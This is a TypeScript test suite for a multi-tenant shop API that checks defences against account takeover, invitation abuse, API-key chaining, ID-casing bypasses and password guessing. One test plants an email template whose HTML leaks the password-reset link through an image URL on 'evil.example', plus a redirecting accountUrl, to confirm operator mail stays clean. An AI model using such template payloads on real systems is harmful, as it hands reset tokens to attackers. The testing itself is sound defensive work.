// Ways in which somebody could get at an account that is not theirs, or at more rights than they have.
import t from 'tap';
import { graphql } from '../helpers/graphql.js';
import { deliverAll } from '../helpers/mail.js';
import { openShop, password, type Shop } from '../helpers/shop.js';

const newPassword = 'three quiet lanterns';
const theirs = 'a password of a stranger';

const require = (shop: Shop, settings: object) =>
  shop.request('PATCH', `/v1/tenants/${shop.ctx.tenant.id}`, {
    as: shop.users.platform,
    body: { settings },
  });
const login = (shop: Shop, email: string, word: string, remoteAddress = '127.0.0.1') =>
  shop.request('POST', '/v1/auth/login', { body: { email, password: word }, remoteAddress });
const register = (shop: Shop, email: string, word: string) =>
  shop.request('POST', '/v1/auth/register', {
    body: { email, password: word, firstName: 'Ama', lastName: 'Mensah' },
  });
const verify = (shop: Shop, body: object) =>
  shop.request('POST', '/v1/auth/email-verification/confirm', { body });
const invite = (shop: Shop, email: string, role: string, as = shop.users.admin) =>
  shop.request('POST', '/v1/invitations', { as, body: { email, role } });
const accept = (shop: Shop, token: string | undefined) =>
  shop.request('POST', '/v1/auth/invitations/accept', {
    body: { token, password: newPassword, firstName: 'Ama', lastName: 'Mensah' },
  });

t.test('a link does not open an account with a password that a stranger chose', async (t) => {
  const shop = await openShop(t);
  await require(shop, { requireVerifiedEmail: true });
  const email = 'ama@example.com';
  await register(shop, email, newPassword);
  await register(shop, email, theirs);
  const [, link] = await deliverAll(shop);
  t.equal((await verify(shop, { token: link?.token, password: newPassword })).statusCode, 422);
  t.equal((await login(shop, email, theirs)).statusCode, 401);
  await shop.request('POST', '/v1/auth/password-reset', { body: { email } });
  const [reset] = await deliverAll(shop);
  const confirmed = await shop.request('POST', '/v1/auth/password-reset/confirm', {
    body: { token: reset?.token, password: newPassword },
  });
  t.equal(confirmed.statusCode, 204, 'the owner of the address resets it');
  t.equal((await login(shop, email, newPassword)).statusCode, 200);
  t.equal((await login(shop, email, theirs)).statusCode, 401);
});

t.test('registering again does not change an account that an admin has given a role', async (t) => {
  const shop = await openShop(t);
  await require(shop, { requireVerifiedEmail: true });
  const email = 'ama@example.com';
  await register(shop, email, newPassword);
  const [link] = await deliverAll(shop);
  const [row] = await shop.sql<{ id: string }>('select id from users where email = $1', [email]);
  const promoted = await shop.request('PATCH', `/v1/users/${row?.id}`, {
    as: shop.users.admin,
    body: { role: 'staff' },
  });
  t.equal(promoted.statusCode, 200);
  await register(shop, email, theirs);
  t.equal((await verify(shop, { token: link?.token, password: newPassword })).statusCode, 204);
  t.equal((await login(shop, email, theirs)).statusCode, 401);
  t.equal((await login(shop, email, newPassword)).data.user.role, 'staff');
});

t.test('an invitation goes before a registration that was never verified', async (t) => {
  const shop = await openShop(t);
  await require(shop, { requireVerifiedEmail: true });
  const email = 'ama@example.com';
  await register(shop, email, theirs);
  const [link] = await deliverAll(shop);
  t.equal((await invite(shop, email, 'staff')).statusCode, 201);
  const [invitation] = await deliverAll(shop);
  const accepted = await accept(shop, invitation?.token);
  t.match([accepted.statusCode, accepted.data], [201, { role: 'staff', emailVerified: true }]);
  t.equal((await login(shop, email, theirs)).statusCode, 401);
  t.equal((await login(shop, email, newPassword)).statusCode, 200);
  const late = await verify(shop, { token: link?.token, password: theirs });
  t.equal(late.data.code, 'link_invalid');
});

t.test('an invitation gives no more than its inviter still may', async (t) => {
  const shop = await openShop(t);
  const { admin } = shop.users;
  const { data: key } = await shop.request('POST', '/v1/api-keys', {
    as: admin,
    body: { name: 'Portal', roles: ['admin'] },
  });
  await invite(shop, 'second@example.com', 'admin');
  const [second] = await deliverAll(shop);
  const { data: other } = await accept(shop, second?.token);
  const session = await login(shop, 'second@example.com', newPassword);
  const headers = { authorization: `Bearer ${session.data.accessToken}` };
  const send = (email: string, role: string, headers: Record<string, string>) =>
    shop.request('POST', '/v1/invitations', { headers, body: { email, role } });
  await send('by-user@example.com', 'admin', headers);
  await send('by-key@example.com', 'staff', { authorization: `Bearer ${key.key}` });
  const [byUser, byKey] = await deliverAll(shop);
  t.ok(byUser?.token && byKey?.token);
  await shop.request('PATCH', `/v1/users/${other.id}`, { as: admin, body: { role: 'staff' } });
  await shop.request('DELETE', `/v1/api-keys/${key.apiKey.id}`, { as: admin });
  t.equal((await accept(shop, byUser?.token)).data.code, 'link_invalid');
  t.equal((await accept(shop, byKey?.token)).data.code, 'link_invalid');
});

t.test('parallel invitations leave one link that works', async (t) => {
  const shop = await openShop(t);
  const sent = await Promise.all(
    Array.from({ length: 6 }, () => invite(shop, 'ama@example.com', 'staff')),
  );
  t.same([...new Set(sent.map(({ statusCode }) => statusCode))], [201]);
  const answers = [];
  for (const { token } of await deliverAll(shop))
    answers.push((await accept(shop, token)).statusCode);
  t.same(
    answers.filter((status) => status !== 422),
    [201],
  );
});

t.test('admins who change each other at once do not wait for each other in a circle', async (t) => {
  const shop = await openShop(t);
  const users: Array<{ id: string; headers: Record<string, string> }> = [];
  for (let n = 0; n < 6; n += 1) {
    const email = `admin${n}@example.com`;
    await invite(shop, email, 'admin');
    const [mail] = await deliverAll(shop);
    const { data } = await accept(shop, mail?.token);
    const { data: session } = await login(shop, email, newPassword, `192.0.2.${n}`);
    users.push({ id: data.id, headers: { authorization: `Bearer ${session.accessToken}` } });
  }
  const answers = await Promise.all(
    users.flatMap(({ headers }, n) => [
      shop.request('PATCH', `/v1/users/${users[(n + 1) % 6]?.id}`, {
        headers,
        body: { role: n % 2 === 0 ? 'staff' : 'admin' },
      }),
      shop.request('POST', '/v1/me/deletion', { headers, body: { password: newPassword } }),
    ]),
  );
  t.notOk(answers.find(({ statusCode }) => statusCode >= 500));
  const deadlocks = await shop.sql<{ deadlocks: number }>(
    'select deadlocks::int from pg_stat_database where datname = current_database()',
  );
  t.same(deadlocks, [{ deadlocks: 0 }]);
});

t.test('a tenant cannot lead the links of the operator’s accounts away', async (t) => {
  const shop = await openShop(t);
  const leak = '{% assign at = link | slice: 0, 400 %}<img src="https://evil.example/{{ at }}">';
  const saved = await shop.request(
    'PUT',
    '/v1/notification-templates/account-password-reset/email/en',
    { as: shop.users.admin, body: { subject: 'Hi', text: '{{ shop }} {{ link }}', html: leak } },
  );
  t.equal(saved.statusCode, 200, saved.body);
  await require(shop, { accountUrl: 'https://evil.example/{action}/{token}' });
  await shop.deps.tenants.forget(shop.ctx.tenant);
  for (const email of ['platform@example.com', 'customer@example.com'])
    await shop.request('POST', '/v1/auth/password-reset', { body: { email } });
  const mails = await deliverAll(shop);
  const toOperator = mails.find(({ to }) => to === 'platform@example.com');
  t.notMatch(toOperator?.html, /evil/);
  t.notMatch(toOperator?.text, /evil/);
  t.match(toOperator?.link, /\/account\/reset-password/);
  const toCustomer = mails.find(({ to }) => to === 'customer@example.com');
  t.match(toCustomer?.text, /https:\/\/evil\.example\/reset-password\//, 'its own accounts');
});

t.test('keys of keys end with the first of them', async (t) => {
  const shop = await openShop(t);
  let headers: Record<string, string> = { authorization: `Bearer ${shop.users.admin.token}` };
  const keys: Array<{ apiKey: { id: string }; key: string }> = [];
  let last = 201;
  for (let n = 0; n < 22 && last === 201; n += 1) {
    const { statusCode, data } = await shop.request('POST', '/v1/api-keys', {
      headers,
      body: { name: `Key ${n}`, roles: ['admin'] },
    });
    last = statusCode;
    if (statusCode !== 201) break;
    keys.push(data);
    headers = { authorization: `Bearer ${data.key}` };
  }
  t.equal(last, 403, 'not for ever');
  t.equal(keys.length, 19);
  await shop.request('DELETE', `/v1/api-keys/${keys[0]?.apiKey.id}`, { as: shop.users.admin });
  for (const { apiKey } of keys) await shop.deps.callers.forgetApiKey(shop.ctx, apiKey.id);
  for (const { key } of keys) {
    const answer = await shop.request('GET', '/v1/users', {
      headers: { authorization: `Bearer ${key}` },
    });
    t.equal(answer.statusCode, 401);
  }
});

t.test('the identity that came first by an unverified address ends with a takeover', async (t) => {
  const shop = await openShop(t);
  const { service, staff } = shop.users;
  const issuer = 'https://id.example.com/realms/shop';
  const sync = (subject: string, emailVerified: boolean, more: object = {}) =>
    shop.request('POST', '/v1/users/sync', {
      as: service,
      body: {
        ...{ issuer, subject, email: 'victim@example.com', emailVerified },
        ...{ firstName: 'Ama', lastName: 'Mensah', roles: ['customer'], ...more },
      },
    });
  const { data: first } = await sync('attacker', false, { phone: '+254711000111' });
  const { data: second } = await sync('victim', true);
  t.equal(second.id, first.id);
  t.equal(second.phone, null, 'messages do not go to the stranger');
  const customer = await shop.request('GET', `/v1/customers/${second.customerId}`, { as: staff });
  t.equal(customer.data.phone, null);
  const rows = await shop.sql<{ subject: string }>(
    'select subject from user_identities where user_id = $1',
    [first.id],
  );
  t.same(rows, [{ subject: 'victim' }]);
  t.equal((await sync('attacker', false)).data.code, 'email_taken');
});

t.test('an id in capital letters gets round no rule', async (t) => {
  const shop = await openShop(t);
  const { admin, platform } = shop.users;
  const own = await shop.request('PATCH', `/v1/users/${admin.id.toUpperCase()}`, {
    as: admin,
    body: { role: 'staff' },
  });
  t.equal(own.data.code, 'own_account');
  const tenant = await shop.request('PATCH', `/v1/tenants/${shop.ctx.tenant.id.toUpperCase()}`, {
    as: platform,
    body: { suspended: true },
  });
  t.equal(tenant.data.code, 'own_tenant');
});

t.test('a stranger’s telephone number does not survive the owner’s reset', async (t) => {
  const shop = await openShop(t);
  await require(shop, { requireVerifiedEmail: true });
  const email = 'ama@example.com';
  await shop.request('POST', '/v1/auth/register', {
    body: { email, password: theirs, firstName: 'A', lastName: 'B', phone: '+254711000111' },
  });
  await shop.request('POST', '/v1/auth/password-reset', { body: { email } });
  const reset = (await deliverAll(shop)).find(({ link }) => link?.includes('reset-password'));
  await shop.request('POST', '/v1/auth/password-reset/confirm', {
    body: { token: reset?.token, password: newPassword },
  });
  const { data } = await login(shop, email, newPassword);
  t.equal(data.user.phone, null);
  const rows = await shop.sql<{ phone: string | null }>(
    'select phone from customers where id = $1',
    [data.user.customerId],
  );
  t.same(rows, [{ phone: null }]);
});

t.test('the current password is not guessed faster than by logging in', async (t) => {
  const shop = await openShop(t, { env: { RATE_LIMIT_SCALE: '1' } });
  const statuses = [];
  for (let n = 0; n < 13; n += 1)
    statuses.push(
      (
        await shop.request('POST', '/v1/me/deletion', {
          as: shop.users.customer,
          body: { password: `Wrong-pass-${n}` },
        })
      ).statusCode,
    );
  t.equal(statuses.at(-1), 429);
});

t.test('what ends sessions ends the links that would begin new ones', async (t) => {
  const shop = await openShop(t);
  const { admin, staff } = shop.users;
  await shop.request('POST', '/v1/auth/password-reset', { body: { email: 'staff@example.com' } });
  const [mail] = await deliverAll(shop);
  for (const active of [false, true])
    await shop.request('PATCH', `/v1/users/${staff.id}`, { as: admin, body: { active } });
  const answer = await shop.request('POST', '/v1/auth/password-reset/confirm', {
    body: { token: mail?.token, password: newPassword },
  });
  t.equal(answer.data.code, 'link_invalid');
});

t.test('nothing is written to an account that its owner has just closed', async (t) => {
  const shop = await openShop(t);
  const { customer } = shop.users;
  const { errors } = await graphql(
    shop,
    `mutation ($password: String!) {
      deleteMyAccount(input: { password: $password })
      updateMe(input: { firstName: "Again" }) { id }
    }`,
    { as: customer, variables: { password } },
  );
  t.equal(errors?.[0]?.extensions.code, 'unauthenticated');
  const [row] = await shop.sql<{ firstName: string }>(
    'select first_name as "firstName" from users where id = $1',
    [customer.id],
  );
  t.not(row?.firstName, 'Again');
});

t.test('guesses from a known network end, and take as long as from any other', async (t) => {
  const shop = await openShop(t, { env: { RATE_LIMIT_SCALE: '1' } });
  const email = 'customer@example.com';
  t.equal((await login(shop, email, password, '192.0.2.9')).statusCode, 200);
  const guess = async () => (await login(shop, email, 'Wrong-pass-1', '192.0.2.9')).statusCode;
  for (let n = 0; n < 12; n += 1) await guess();
  t.equal(await guess(), 429);
  const owner = await login(shop, email, password, '192.0.2.9');
  t.equal(owner.statusCode, 200, 'the owner is let in');
  for (let n = 0; n < 20; n += 1) await guess();
  t.equal((await login(shop, email, password, '192.0.2.9')).statusCode, 429, 'not for ever');
});

t.test(
  'a reset takes the phone number of a stranger off an address that nobody verified',
  async (t) => {
    const shop = await openShop(t);
    const email = 'ama@example.com';
    await shop.request('POST', '/v1/auth/register', {
      body: { email, password: theirs, firstName: 'A', lastName: 'B', phone: '+447700900066' },
    });
    const reset = async () => {
      await shop.request('POST', '/v1/auth/password-reset', { body: { email } });
      const mails = await deliverAll(shop);
      return shop.request('POST', '/v1/auth/password-reset/confirm', {
        body: { token: mails.at(-1)?.token, password: newPassword },
      });
    };
    t.equal((await reset()).statusCode, 204);
    const { data } = await login(shop, email, newPassword);
    const me = { headers: { authorization: `Bearer ${data.accessToken}` } };
    t.equal((await shop.request('GET', '/v1/me', me)).data.phone, null);
    const own = await shop.request('PATCH', '/v1/me', { ...me, body: { phone: '+447700900067' } });
    t.equal(own.data.phone, '+447700900067');
    t.equal((await reset()).statusCode, 204);
    const again = await login(shop, email, newPassword);
    const kept = await shop.request('GET', '/v1/me', {
      headers: { authorization: `Bearer ${again.data.accessToken}` },
    });
    t.equal(kept.data.phone, '+447700900067', 'it is the owner’s now');
  },
);
